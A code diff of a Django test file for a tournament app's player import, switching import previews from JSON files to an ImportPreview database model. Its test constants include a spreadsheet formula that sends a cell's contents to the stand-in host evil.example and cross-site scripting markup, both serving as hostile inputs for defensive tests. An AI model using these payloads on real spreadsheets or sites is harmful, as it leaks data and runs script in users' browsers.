@@ -14,19 +14,13 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from tests import factories
-from tournament.models import AuditLog, Entry, Player
+from tournament.models import AuditLog, Entry, ImportPreview, Player
 
 pytestmark = pytest.mark.django_db
 
 HEAD = ["Vorname", "Nachname", "Ort"]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
 MARKUP = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
-
-
-@pytest.fixture(autouse=True)
-def import_dir(settings, tmp_path):
-    """A preview directory of this test alone, so that "nothing stored" sees only this test's files."""
-    settings.CEGO_IMPORT_DIR = tmp_path / "imports"
 
 
 @pytest.fixture
@@ -55,8 +49,7 @@ def nothing_stored(client, t, settings):
     assert not Player.objects.exists() and not Entry.objects.exists()
     assert not AuditLog.objects.filter(object_type="entry").exists()
     assert f"director_import_{t.pk}" not in client.session
-    if settings.CEGO_IMPORT_DIR.exists():
-        assert not list(settings.CEGO_IMPORT_DIR.glob("*.json"))
+    assert not ImportPreview.objects.exists()
 
 
 def import_shown(client, t):
